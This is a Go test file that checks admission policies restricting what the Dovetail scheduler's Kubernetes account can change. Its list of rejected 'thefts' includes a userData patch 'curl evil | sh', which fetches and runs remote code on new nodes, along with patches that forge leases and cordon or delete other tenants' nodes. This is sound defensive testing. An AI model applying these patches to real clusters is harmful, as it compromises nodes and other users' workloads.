package cluster

import (
	"context"
	"fmt"
	"strings"
	"testing"
	"time"

	ec2nc "github.com/aws/karpenter-provider-aws/pkg/apis/v1"
	coordinationv1 "k8s.io/api/coordination/v1"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"
	karpv1 "sigs.k8s.io/karpenter/pkg/apis/v1"

	"github.com/dovetail-scheduler/dovetail/manifests"
)

// The admission policies hold for Dovetail's account in both modes: what it does is allowed, and what somebody could do with its credentials
// is not.
func TestAdmissionPolicies(t *testing.T) {
	for _, folder := range []string{"secondary", "replace"} {
		t.Run(folder, func(t *testing.T) {
			ctx, cancel := context.WithTimeout(t.Context(), 5*time.Minute)
			defer cancel()
			c, err := Start(ctx, Options{Manifests: folder})
			if err != nil {
				t.Fatal(err)
			}
			defer c.Stop()
			scheduler, err := client.New(c.SchedulerConfig(), client.Options{Scheme: Scheme})
			if err != nil {
				t.Fatal(err)
			}
			p := &policed{t, ctx, c, scheduler}
			p.setUp()
			for name, try := range p.thefts() {
				if err := try(); !apierrors.IsInvalid(err) && !apierrors.IsForbidden(err) || !strings.Contains(fmt.Sprint(err), "Dovetail ") {
					t.Errorf("%s: %v, want the policy's refusal", name, err)
				}
			}
			for _, w := range p.work() {
				if err := w.try(); err != nil {
					t.Errorf("%s: %v", w.name, err)
				}
			}
		})
	}
}

// policed is a cluster with objects of Dovetail and of others.
type policed struct {
	t         *testing.T
	ctx       context.Context
	c         *Cluster
	scheduler client.Client // as Dovetail
}

// setUp creates the objects and the policies, and waits until the API server enforces these.
func (p *policed) setUp() {
	p.t.Helper()
	objects := []client.Object{
		&karpv1.NodePool{ObjectMeta: metav1.ObjectMeta{Name: "default", Annotations: map[string]string{"dovetail.sh/max-dollars-per-hour": "10"}}, Spec: karpv1.NodePoolSpec{
			Template: karpv1.NodeClaimTemplate{Spec: karpv1.NodeClaimTemplateSpec{
				NodeClassRef: &karpv1.NodeClassReference{Group: "karpenter.k8s.aws", Kind: "EC2NodeClass", Name: "default"},
				Requirements: []karpv1.NodeSelectorRequirementWithMinValues{},
				ExpireAfter:  karpv1.MustParseNillableDuration("720h"),
			}},
			Disruption: karpv1.Disruption{ConsolidateAfter: karpv1.MustParseNillableDuration("0s"), ConsolidationPolicy: karpv1.ConsolidationPolicyWhenEmpty},
		}},
		&ec2nc.EC2NodeClass{ObjectMeta: metav1.ObjectMeta{Name: "default"}, Spec: ec2nc.EC2NodeClassSpec{
			AMISelectorTerms:           []ec2nc.AMISelectorTerm{{Alias: "al2023@latest"}},
			SubnetSelectorTerms:        []ec2nc.SubnetSelectorTerm{{ID: "subnet-1"}},
			SecurityGroupSelectorTerms: []ec2nc.SecurityGroupSelectorTerm{{ID: "sg-1"}},
			Role:                       "nodes",
		}},
		&corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: "control-plane"}, Spec: corev1.NodeSpec{ProviderID: "aws:///us-west-2a/i-1"}},
		&corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: "of-a-kubelet"}, Spec: corev1.NodeSpec{ProviderID: "aws:///us-west-2a/i-2",
			Taints: []corev1.Taint{{Key: karpv1.UnregisteredTaintKey, Effect: corev1.TaintEffectNoExecute}}}},
		&corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: "pooled", Labels: map[string]string{karpv1.NodePoolLabelKey: "default"}}},
		p.lease("control-plane", nil),
	}
	for _, o := range objects {
		if err := p.c.Client().Create(p.ctx, o); err != nil {
			p.t.Fatal(err)
		}
	}
	policies, err := manifests.Folder("admission")
	if err != nil {
		p.t.Fatal(err)
	}
	for _, documents := range policies {
		if err := p.c.Apply(p.ctx, documents); err != nil {
			p.t.Fatal(err)
		}
	}
	// Nothing may be written while a policy isn't enforced yet: the same patch would then change nothing, which is allowed.
	err = poll(p.ctx, func() error {
		for name, try := range map[string]func() error{
			"pools":  p.patch(&karpv1.NodePool{}, "default", `{"metadata":{"labels":{"a":"b"}}}`, client.DryRunAll),
			"nodes":  p.patch(&corev1.Node{}, "control-plane", `{"metadata":{"labels":{"a":"b"}}}`, client.DryRunAll),
			"leases": func() error { return p.scheduler.Create(p.ctx, p.lease("nobody", nil), client.DryRunAll) },
		} {
			if err := try(); err == nil || !strings.Contains(err.Error(), "Dovetail ") {
				return fmt.Errorf("the policy of %s is not enforced yet: %w", name, err)
			}
		}
		return nil
	})
	if err != nil {
		p.t.Fatal(err)
	}
}

func (p *policed) lease(node string, labels map[string]string) *coordinationv1.Lease {
	return &coordinationv1.Lease{
		ObjectMeta: metav1.ObjectMeta{Namespace: corev1.NamespaceNodeLease, Name: node, Labels: labels},
		Spec:       coordinationv1.LeaseSpec{HolderIdentity: &node, LeaseDurationSeconds: ptr.To[int32](40), RenewTime: &metav1.MicroTime{Time: time.Now()}},
	}
}

// patch returns a request that patches an object as Dovetail.
func (p *policed) patch(o client.Object, name, body string, options ...client.PatchOption) func() error {
	return func() error {
		o := o.DeepCopyObject().(client.Object)
		o.SetName(name)
		if _, ok := o.(*coordinationv1.Lease); ok {
			o.SetNamespace(corev1.NamespaceNodeLease)
		}
		return p.scheduler.Patch(p.ctx, o, client.RawPatch(types.MergePatchType, []byte(body)), options...)
	}
}

func (p *policed) create(o client.Object) func() error {
	return func() error { return p.scheduler.Create(p.ctx, o.DeepCopyObject().(client.Object)) }
}

func (p *policed) delete(o client.Object, name string) func() error {
	return func() error {
		o := o.DeepCopyObject().(client.Object)
		o.SetName(name)
		return p.scheduler.Delete(p.ctx, o)
	}
}

// ahead returns a Node as Dovetail creates it.
func ahead(name string, change func(*corev1.Node)) *corev1.Node {
	n := &corev1.Node{
		ObjectMeta: metav1.ObjectMeta{Name: name, OwnerReferences: []metav1.OwnerReference{{APIVersion: "karpenter.sh/v1", Kind: "NodeClaim", Name: "claim", UID: "uid"}}},
		Spec: corev1.NodeSpec{ProviderID: "aws:///us-west-2a/i-3", Taints: []corev1.Taint{
			{Key: karpv1.UnregisteredTaintKey, Effect: corev1.TaintEffectNoSchedule}}},
	}
	if change != nil {
		change(n)
	}
	return n
}

// thefts are what somebody with Dovetail's token could do if RBAC alone bounded it.
func (p *policed) thefts() map[string]func() error {
	pool, class, node, lease := &karpv1.NodePool{}, &ec2nc.EC2NodeClass{}, &corev1.Node{}, &coordinationv1.Lease{}
	return map[string]func() error{
		"a command on all new nodes":            p.patch(class, "default", `{"spec":{"userData":"curl evil | sh"}}`),
		"another role for new nodes":            p.patch(class, "default", `{"spec":{"role":"admin"}}`),
		"no limit on a pool":                    p.patch(pool, "default", `{"spec":{"limits":{"cpu":"100000"}}}`),
		"no taint on a pool's nodes":            p.patch(pool, "default", `{"spec":{"template":{"spec":{"taints":[{"key":"a","effect":"NoSchedule"}]}}}}`),
		"a user's annotation of a pool":         p.patch(pool, "default", `{"metadata":{"annotations":{"dovetail.sh/max-dollars-per-hour":"100000"}}}`),
		"a user's annotation removed":           p.patch(pool, "default", `{"metadata":{"annotations":{"dovetail.sh/max-dollars-per-hour":null}}}`),
		"a launch template for a class":         p.patch(class, "default", `{"metadata":{"annotations":{"dovetail.sh/launch-template":"evil"}}}`),
		"a label of a pool":                     p.patch(pool, "default", `{"metadata":{"labels":{"a":"b"}}}`),
		"an owner of a pool, which collects it": p.patch(pool, "default", `{"metadata":{"ownerReferences":[{"apiVersion":"v1","kind":"ConfigMap","name":"x","uid":"x"}]}}`),
		"a finalizer on a pool, for ever":       p.patch(pool, "default", `{"metadata":{"finalizers":["example.com/never"]}}`),
		"a label of another's node":             p.patch(node, "control-plane", `{"metadata":{"labels":{"karpenter.sh/nodepool":"default"}}}`),
		"an owner of another's node":            p.patch(node, "control-plane", `{"metadata":{"ownerReferences":[{"apiVersion":"karpenter.sh/v1","kind":"NodeClaim","name":"x","uid":"x"}]}}`),
		"the drain of another's node":           p.patch(node, "control-plane", `{"spec":{"taints":[{"key":"karpenter.sh/disrupted","effect":"NoExecute"}]}}`),
		"another's node cordoned":               p.patch(node, "control-plane", `{"spec":{"unschedulable":true}}`),
		"the end of another's node":             p.delete(node, "control-plane"),
		"a node of nobody":                      p.create(ahead("fake", func(n *corev1.Node) { n.OwnerReferences = nil })),
		"a node that takes pods at once":        p.create(ahead("fake", func(n *corev1.Node) { n.Spec.Taints = nil })),
		"a node owned by something else":        p.create(ahead("fake", func(n *corev1.Node) { n.OwnerReferences[0].Kind = "Node" })),
		"a dead node that looks alive":          p.patch(lease, "control-plane", fmt.Sprintf(`{"spec":{"renewTime":%q}}`, time.Now().UTC().Format(metav1.RFC3339Micro))),
		"another's Lease adopted":               p.patch(lease, "control-plane", `{"metadata":{"labels":{"app.kubernetes.io/managed-by":"dovetail-scheduler"}}}`),
		"a Lease for nobody":                    p.create(p.lease("fake", nil)),
		"a Lease in the name of somebody else's node": p.create(func() client.Object {
			l := p.lease("fake", map[string]string{"app.kubernetes.io/managed-by": "dovetail-scheduler"})
			l.Spec.HolderIdentity = ptr.To("control-plane")
			return l
		}()),
	}
}

type deed struct {
	name string
	try  func() error
}

// work is what Dovetail does to these objects, in order.
func (p *policed) work() []deed {
	pool, class, node, lease := &karpv1.NodePool{}, &ec2nc.EC2NodeClass{}, &corev1.Node{}, &coordinationv1.Lease{}
	return []deed{
		{"the hash of a pool", p.patch(pool, "default", `{"metadata":{"annotations":{"karpenter.sh/nodepool-hash":"1","karpenter.sh/nodepool-hash-version":"v3"}}}`)},
		{"the guard's record", p.patch(pool, "default", `{"metadata":{"annotations":{"dovetail.sh/guard":"{}"}}}`)},
		{"the guard's record removed", p.patch(pool, "default", `{"metadata":{"annotations":{"dovetail.sh/guard":null}}}`)},
		{"the hash of a class", p.patch(class, "default", `{"metadata":{"annotations":{"karpenter.k8s.aws/ec2nodeclass-hash":"1","dovetail.sh/learned":"{}"}}}`)},
		{"the finalizer of a class", p.patch(class, "default", `{"metadata":{"finalizers":["karpenter.k8s.aws/termination"]}}`)},
		{"the finalizer of a class removed", p.patch(class, "default", `{"metadata":{"finalizers":null}}`)},
		{"the status of a class", func() error {
			o := &ec2nc.EC2NodeClass{ObjectMeta: metav1.ObjectMeta{Name: "default"}}
			return p.scheduler.Status().Patch(p.ctx, o, client.RawPatch(types.MergePatchType, []byte(`{"status":{"instanceProfile":"x"}}`)))
		}},
		{"a node ahead of its kubelet, tried", func() error { return p.scheduler.Create(p.ctx, ahead("new", nil), client.DryRunAll) }},
		{"a node ahead of its kubelet", p.create(ahead("new", nil))},
		{"its registration", p.patch(node, "new", `{"metadata":{"finalizers":["karpenter.sh/termination"],"labels":{"karpenter.sh/registered":"true"}},"spec":{"taints":null}}`)},
		{"its drain", p.patch(node, "new", `{"spec":{"taints":[{"key":"karpenter.sh/disrupted","effect":"NoSchedule"}]}}`)},
		{"its end", p.delete(node, "new")},
		{"its finalizer", p.patch(node, "new", `{"metadata":{"finalizers":null}}`)},
		{"the registration of a kubelet under another name", p.patch(node, "of-a-kubelet", `{"metadata":{"ownerReferences":[{"apiVersion":"karpenter.sh/v1","kind":"NodeClaim","name":"x","uid":"x"}]},"spec":{"taints":null}}`)},
		{"the drain of a node that Karpenter has made", p.patch(node, "pooled", `{"spec":{"taints":[{"key":"karpenter.sh/disrupted","effect":"NoSchedule"}]}}`)},
		{"a Lease", p.create(p.lease("new", map[string]string{"app.kubernetes.io/managed-by": "dovetail-scheduler"}))},
		{"its renewal", p.patch(lease, "new", fmt.Sprintf(`{"spec":{"renewTime":%q}}`, time.Now().UTC().Format(metav1.RFC3339Micro)))},
	}
}
